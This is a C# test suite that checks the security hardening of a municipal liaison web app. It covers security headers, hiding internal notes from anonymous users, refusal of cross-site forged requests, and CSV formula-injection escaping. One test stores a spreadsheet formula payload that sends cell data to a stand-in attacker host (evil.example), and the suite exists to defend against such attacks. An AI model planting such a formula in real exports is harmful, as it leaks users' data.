using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Jiaowang.Web.Data;
using Jiaowang.Web.Features.Meetings;
using Jiaowang.Web.Tests.Supervision;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Jiaowang.Web.Tests.Security;

/// <summary>Issue 10, items 3, 5 and 9: what every response carries, what anonymous callers see, and writes from another site.</summary>
public sealed class HardeningTests : IAsyncLifetime
{
    SupervisionApp app = null!;
    public async Task InitializeAsync() => app = await SupervisionApp.StartAsync(DatabaseProvider.Sqlite);
    public async Task DisposeAsync() => await app.DisposeAsync();

    [Theory]
    [InlineData("/")]
    [InlineData("/world")]
    [InlineData("/account/login")]
    [InlineData("/api/plans")]
    [InlineData("/no-such-page")]
    public async Task Every_response_forbids_inline_script_framing_and_sniffing(string path)
    {
        using var client = app.Factory.CreateClient();
        var response = await client.GetAsync(path);

        var csp = response.Headers.GetValues("Content-Security-Policy").Single();
        var scripts = csp.Split(';').Select(d => d.Trim()).Single(d => d.StartsWith("script-src"));
        Assert.Equal("script-src 'self'", scripts);
        Assert.Contains("object-src 'none'", csp);
        Assert.Contains("frame-ancestors 'none'", csp);
        Assert.Contains("base-uri 'self'", csp);
        Assert.Contains("form-action 'self'", csp);
        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
        Assert.Equal("DENY", response.Headers.GetValues("X-Frame-Options").Single());
        Assert.Equal("same-origin", response.Headers.GetValues("Referrer-Policy").Single());
        // Plain http: no HSTS (a browser ignores it there, and it would pin a developer's localhost).
        Assert.False(response.Headers.Contains("Strict-Transport-Security"));
    }

    [Fact]
    public async Task No_page_has_an_inline_script_or_event_handler()
    {
        using var client = app.Factory.CreateClient();
        foreach (var path in new[] { "/", "/world", "/partners", "/partners/map", "/events", "/account/login" })
        {
            var html = await client.GetStringAsync(path);
            Assert.DoesNotMatch(@"<script(?![^>]*\b(src=|type=""application/json""))[^>]*>", html);
            Assert.DoesNotMatch(@"\son[a-z]+\s*=\s*""", html);
        }
    }

    [Fact]
    public async Task Anonymous_callers_of_the_events_api_do_not_get_the_offices_notes_or_sources()
    {
        using var office = await app.OfficeAsync();
        var created = await office.PostAsJsonAsync("/api/events", new
        {
            category = "conference", title = "中法城市合作论坛", startsOn = "2026-09-10", country = "FR", hostUnit = "市外办",
            notes = "内部：外方嘉宾名单未定", source = "内部函〔2026〕12号",
        });
        Assert.True(created.IsSuccessStatusCode, await created.Content.ReadAsStringAsync());

        using var anonymous = app.Factory.CreateClient();
        var text = await anonymous.GetStringAsync("/api/events");
        Assert.Contains("中法城市合作论坛", text);
        Assert.DoesNotContain("外方嘉宾名单未定", text);
        Assert.DoesNotContain("内部函", text);
        using var json = JsonDocument.Parse(text);
        Assert.All(json.RootElement.EnumerateArray(), e =>
        {
            Assert.False(e.TryGetProperty("notes", out _));
            Assert.False(e.TryGetProperty("source", out _));
        });

        var signedIn = await office.GetStringAsync("/api/events");
        Assert.Contains("外方嘉宾名单未定", signedIn);
        Assert.Contains("内部函〔2026〕12号", signedIn);
    }

    [Fact]
    public async Task A_follow_up_cannot_be_reopened_by_a_form_on_another_site_but_can_from_our_own_pages()
    {
        using var officeScript = await app.OfficeAsync();
        var (_, transport) = await app.LiaisonAsync("市交通运输局");
        var meeting = await officeScript.PostAsJsonAsync($"/api/plans/{app.PlanId}/meetings", new
        {
            kind = "officeMeeting", title = "领导小组办公室会议", heldOn = "2026-06-01", place = "市外办",
            attendees = new[] { "市交通运输局" },
            decisions = new[] { new { text = "开通武汉至布达佩斯航线", unitId = app.UnitIds["市交通运输局"], deadline = "2026-07-31" } },
        });
        var id = (await meeting.Content.ReadFromJsonAsync<MeetingItem>())!.Decisions.Single().Id;
        (await transport.PostAsJsonAsync($"/api/followups/{id}/done", new { note = "已开通" })).EnsureSuccessStatusCode();
        var officeUser = await Accounts.CreateAsync(app.Factory, "office");
        using var browser = await Accounts.CookieClientAsync(app.Factory, officeUser.UserName!);

        foreach (var (header, value) in new[] { ("Origin", "https://evil.example"), ("Sec-Fetch-Site", "same-site"), ("Sec-Fetch-Site", "cross-site"), ("Origin", "null") })
        {
            using var forged = new HttpRequestMessage(HttpMethod.Post, $"/api/followups/{id}/reopen");
            forged.Headers.Add(header, value);
            var refused = await browser.SendAsync(forged);
            Assert.Equal(HttpStatusCode.Forbidden, refused.StatusCode);
            Assert.Equal("application/problem+json", refused.Content.Headers.ContentType!.MediaType);
        }
        var still = await officeScript.GetFromJsonAsync<List<FollowUpItem>>($"/api/plans/{app.PlanId}/followups");
        Assert.Equal("done", still!.Single(f => f.Id == id).State);

        using var own = new HttpRequestMessage(HttpMethod.Post, $"/api/followups/{id}/reopen");
        own.Headers.Add("Origin", "http://localhost");
        own.Headers.Add("Sec-Fetch-Site", "same-origin");
        var reopened = await browser.SendAsync(own);
        Assert.Equal(HttpStatusCode.OK, reopened.StatusCode);
        Assert.Equal("open", (await reopened.Content.ReadFromJsonAsync<FollowUpItem>())!.State);
    }

    [Fact]
    public async Task Reminders_and_closing_a_vote_cannot_be_triggered_from_another_site()
    {
        var officeUser = await Accounts.CreateAsync(app.Factory, "office");
        using var browser = await Accounts.CookieClientAsync(app.Factory, officeUser.UserName!);
        var before = await RemindersAsync();

        foreach (var path in new[] { "/api/reminders/late", "/api/evaluations/1/close" })
        {
            using var forged = new HttpRequestMessage(HttpMethod.Post, path);
            forged.Headers.Add("Origin", "https://evil.example");
            Assert.Equal(HttpStatusCode.Forbidden, (await browser.SendAsync(forged)).StatusCode);
        }
        Assert.Equal(before, await RemindersAsync());

        // A script with a bearer token carries no ambient credential: where it runs does not matter.
        using var script = await app.OfficeAsync();
        using var fromScript = new HttpRequestMessage(HttpMethod.Post, "/api/reminders/late");
        fromScript.Headers.Add("Origin", "https://evil.example");
        Assert.Equal(HttpStatusCode.OK, (await script.SendAsync(fromScript)).StatusCode);
    }

    [Fact]
    public async Task A_page_form_posted_from_another_site_gets_the_error_page()
    {
        var officeUser = await Accounts.CreateAsync(app.Factory, "office");
        using var browser = await Accounts.CookieClientAsync(app.Factory, officeUser.UserName!);
        using var forged = new HttpRequestMessage(HttpMethod.Post, "/account/logout") { Content = new FormUrlEncodedContent([]) };
        forged.Headers.Add("Sec-Fetch-Site", "cross-site");
        var refused = await browser.SendAsync(forged);
        Assert.Equal(HttpStatusCode.Forbidden, refused.StatusCode);
        Assert.Contains("403", await refused.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task A_formula_in_a_liaisons_note_comes_out_of_the_follow_ups_csv_as_text()
    {
        using var officeScript = await app.OfficeAsync();
        var (_, transport) = await app.LiaisonAsync("市交通运输局");
        var meeting = await officeScript.PostAsJsonAsync($"/api/plans/{app.PlanId}/meetings", new
        {
            kind = "officeMeeting", title = "领导小组办公室会议", heldOn = "2026-06-01", place = "市外办",
            attendees = new[] { "市交通运输局" },
            decisions = new[] { new { text = "-开通航线", unitId = app.UnitIds["市交通运输局"], deadline = "2026-07-31" } },
        });
        var id = (await meeting.Content.ReadFromJsonAsync<MeetingItem>())!.Decisions.Single().Id;
        const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")";
        (await transport.PostAsJsonAsync($"/api/followups/{id}/done", new { note = Formula })).EnsureSuccessStatusCode();

        var officeUser = await Accounts.CreateAsync(app.Factory, "office");
        using var browser = await Accounts.CookieClientAsync(app.Factory, officeUser.UserName!);
        var csv = await browser.GetStringAsync($"/followups?handler=Csv&planId={app.PlanId}");
        var rows = Jiaowang.Core.Network.CsvText.Parse(csv);
        var row = rows.Single(r => r.Any(c => c.Contains("HYPERLINK")));
        Assert.Contains("'" + Formula, row);
        Assert.Contains("'-开通航线", row);
        Assert.DoesNotContain(rows.SelectMany(r => r), c => c.Length > 0 && "=+-@".Contains(c[0]));
    }

    [Fact]
    public async Task A_liaison_sees_other_units_overdue_reports_and_drafts_only_as_a_count()
    {
        const string Transport = "市交通运输局", Commerce = "市商务局";
        var a = app.UnitIds[Transport];
        var transportUser = await Accounts.CreateAsync(app.Factory, "liaison", Transport);
        using var transport = await Accounts.CookieClientAsync(app.Factory, transportUser.UserName!);
        // A draft for May, overdue on 15 June: its state is what the unit is working on.
        var newUrl = $"/work/reports/new?periodId={app.Monthly(5).Id}&taskId={app.TaskIds[5]}";
        var saved = await Accounts.PostFormAsync(transport, newUrl + "&handler=Save", new() { ["Text"] = "五月：草稿" }, newUrl);
        Assert.Equal(HttpStatusCode.Redirect, saved.StatusCode);
        var commerceUser = await Accounts.CreateAsync(app.Factory, "liaison", Commerce);
        using var commerce = await Accounts.CookieClientAsync(app.Factory, commerceUser.UserName!);
        var leaderUser = await Accounts.CreateAsync(app.Factory, "leader");
        using var leader = await Accounts.CookieClientAsync(app.Factory, leaderUser.UserName!);

        foreach (var path in new[] { "/", $"/units/{a}" })
        {
            var seenByLeader = OverdueRows(await leader.GetStringAsync(path));
            Assert.Contains(seenByLeader, r => r.Contains($"/units/{a}\"") && r.Contains("草稿"));

            var page = await commerce.GetStringAsync(path);
            Assert.DoesNotContain(OverdueRows(page), r => r.Contains($"/units/{a}\""));
            Assert.Contains("其他单位另有", page);
            Assert.Contains("逾期未报", page);
        }
        // Their own unit's rows they still read in detail.
        Assert.Contains(OverdueRows(await transport.GetStringAsync("/")), r => r.Contains($"/units/{a}\"") && r.Contains("草稿"));
    }

    static List<string> OverdueRows(string html)
    {
        var table = System.Text.RegularExpressions.Regex.Match(html, "<table class=\"overdue-list\".*?</table>", System.Text.RegularExpressions.RegexOptions.Singleline);
        return table.Success
            ? System.Text.RegularExpressions.Regex.Matches(table.Value, "<tr>.*?</tr>", System.Text.RegularExpressions.RegexOptions.Singleline).Select(m => m.Value).ToList()
            : [];
    }

    async Task<int> RemindersAsync()
    {
        await using var scope = app.Factory.Services.CreateAsyncScope();
        return await scope.ServiceProvider.GetRequiredService<JiaowangDb>().Reminders.CountAsync();
    }
}
